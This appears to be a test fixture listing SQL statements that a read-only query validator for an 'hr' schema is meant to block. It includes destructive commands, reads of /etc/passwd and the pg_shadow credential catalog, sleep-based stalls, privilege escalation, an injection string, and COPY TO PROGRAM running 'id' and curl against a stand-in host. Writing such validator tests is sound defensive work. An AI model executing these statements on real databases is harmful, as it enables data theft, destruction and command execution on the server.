INSERT INTO hr.leave VALUES (1)
;;
UPDATE hr.leave SET days = 99
;;
DELETE FROM hr.leave
;;
TRUNCATE hr.leave
;;
DROP TABLE hr.leave
;;
ALTER TABLE hr.leave ADD COLUMN x int
;;
CREATE TABLE hr.copy AS SELECT * FROM hr.leave
;;
MERGE INTO hr.leave USING hr.leave s ON true WHEN MATCHED THEN DELETE
;;
SELECT 1; DROP TABLE hr.leave
;;
SELECT 1; SELECT 2
;;
SELECT 1 /* ; */ ; -- ;
DELETE FROM hr.leave
;;
WITH gone AS (DELETE FROM hr.leave RETURNING *) SELECT * FROM gone
;;
WITH new AS (INSERT INTO hr.leave VALUES (9) RETURNING *) SELECT * FROM new
;;
SELECT * FROM (WITH gone AS (UPDATE hr.leave SET days = 1 RETURNING *) SELECT * FROM gone) AS x
;;
SELECT * INTO hr.stolen FROM hr.leave
;;
SELECT * INTO TEMP stolen FROM hr.leave
;;
SELECT * FROM hr.leave FOR UPDATE
;;
SELECT * FROM hr.leave FOR NO KEY UPDATE SKIP LOCKED
;;
SELECT * FROM (SELECT * FROM hr.leave FOR SHARE) AS x
;;
SELECT pg_sleep(10)
;;
SELECT pg_catalog.pg_sleep(10)
;;
SELECT "pg_sleep"(10)
;;
SELECT * FROM pg_sleep(10)
;;
SELECT 1 FROM hr.leave ORDER BY pg_sleep(10)
;;
SELECT 1 FROM hr.leave WHERE id = (SELECT 1 FROM pg_sleep_for('1 minute'))
;;
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM hr.leave
;;
SELECT pg_read_file('/etc/passwd')
;;
SELECT pg_read_binary_file('/etc/passwd')
;;
SELECT * FROM pg_ls_dir('/')
;;
SELECT (pg_stat_file('/etc/passwd')).size
;;
SELECT lo_import('/etc/passwd')
;;
SELECT lo_export(1, '/tmp/x')
;;
SELECT lo_get(1)
;;
SELECT * FROM dblink('host=10.0.0.1', 'SELECT 1') AS x(a int)
;;
SELECT public.dblink_connect('host=10.0.0.1')
;;
SELECT set_config('transaction_read_only', 'off', false)
;;
SELECT current_setting('data_directory')
;;
SET transaction_read_only = off
;;
SET ROLE postgres
;;
RESET ALL
;;
SHOW all
;;
BEGIN; COMMIT
;;
COPY hr.leave TO '/tmp/x'
;;
COPY hr.leave TO PROGRAM 'curl http://example.test'
;;
COPY (SELECT 1) TO PROGRAM 'id'
;;
DO $$ BEGIN PERFORM pg_sleep(10); END $$
;;
CALL hr.anything()
;;
EXPLAIN ANALYZE DELETE FROM hr.leave
;;
EXPLAIN SELECT 1
;;
PREPARE x AS SELECT 1
;;
LISTEN x
;;
NOTIFY x
;;
SELECT pg_notify('x', 'y')
;;
LOCK TABLE hr.leave
;;
VACUUM
;;
SELECT pg_advisory_lock(1)
;;
SELECT pg_terminate_backend(1)
;;
SELECT pg_cancel_backend(1)
;;
SELECT pg_reload_conf()
;;
SELECT nextval('hr.leave_id_seq')
;;
SELECT setval('hr.leave_id_seq', 1)
;;
SELECT query_to_xml('DELETE FROM hr.leave', true, true, '')
;;
SELECT table_to_xml('hr.salary', true, true, '')
;;
SELECT database_to_xml(true, true, '')
;;
SELECT * FROM ts_stat('SELECT to_tsvector(name) FROM hr.salary')
;;
SELECT version()
;;
SELECT current_user
;;
SELECT inet_server_addr()
;;
SELECT has_table_privilege('hr.salary', 'select')
;;
SELECT pg_get_viewdef('hr.people')
;;
SELECT * FROM hr.salary
;;
SELECT * FROM salary
;;
SELECT * FROM "hr"."salary"
;;
SELECT * FROM HR.SALARY
;;
TABLE hr.salary
;;
SELECT * FROM hr.leave UNION SELECT * FROM hr.salary
;;
SELECT (SELECT max(amount) FROM hr.salary)
;;
SELECT * FROM hr.leave WHERE id IN (SELECT id FROM hr.salary)
;;
SELECT * FROM hr.leave, LATERAL (SELECT * FROM hr.salary) AS x
;;
WITH leave AS (SELECT * FROM hr.salary) SELECT * FROM leave
;;
WITH salary AS (SELECT * FROM salary) SELECT * FROM hr.salary
;;
SELECT * FROM (WITH pg_shadow AS (SELECT 1) SELECT * FROM pg_shadow) AS x, pg_shadow
;;
WITH pg_shadow AS (SELECT * FROM pg_shadow) SELECT * FROM pg_shadow
;;
WITH "PG_authid" AS (SELECT 1) SELECT * FROM pg_authid
;;
SELECT * FROM pg_shadow
;;
SELECT * FROM pg_catalog.pg_authid
;;
SELECT * FROM pg_stat_activity
;;
SELECT * FROM information_schema.tables
;;
SELECT * FROM secret.plans
;;
SELECT * FROM other_database.hr.leave
;;
SELECT 'hr.salary'::regclass
;;
SELECT 'pg_sleep'::regproc
;;
SELECT 1 OPERATOR(pg_catalog.+) 2
;;
SELECT hr.leak()
;;
SELECT "hr"."leak"()
;;
SELECT leak()
;;
SELECT * FROM hr.leak()
;;
SELECT (hr.leak()).*
;;
SELECT repeat('x', 1000000000)
;;
SELECT lpad('x', 1000000000, 'y')
;;
SELECT $1
;;
SELECT :name
;;
SELECT E'\'; DROP TABLE hr.leave; --'
;;
SELECT U&'\0027'
;;
VALUES (1)
;;
not sql at all
;;
SELECT * FROM
;;
SELECT 1 FROM hr.leave \gexec
;;
SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS b int)
;;
GRANT ALL ON hr.leave TO public
;;
CREATE FUNCTION hr.f() RETURNS int LANGUAGE sql AS 'SELECT 1'
;;
SECURITY LABEL ON TABLE hr.leave IS 'x'
;;
REFRESH MATERIALIZED VIEW hr.x
;;
SELECT xmlparse(document '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>')
;;
SELECT pg_catalog.current_setting('x')
;;
SELECT * FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 2)) AS x
;;
SELECT pg_logical_emit_message(false, 'x', 'y')
;;
SELECT pg_export_snapshot()
;;
SELECT txid_current()
;;
DECLARE c CURSOR FOR SELECT 1
;;
SELECT * FROM hr.generate_series(1, 2)
;;
SELECT N'x'
;;
SELECT b'101'
;;
SELECT $tag$ it's $tag$
;;
SELECT * FROM hr.leave TABLESAMPLE hr.leak (1)
;;
SELECT 'open'::hr.status
;;
SELECT CAST('1' AS hr.evil)
;;
SELECT 'x'::pg_lsn
;;
SELECT * FROM ONLY hr.salary
;;
SELECT /*+ hint */ * FROM hr.salary
;;
SELECT 1 WHERE EXISTS (TABLE hr.salary)
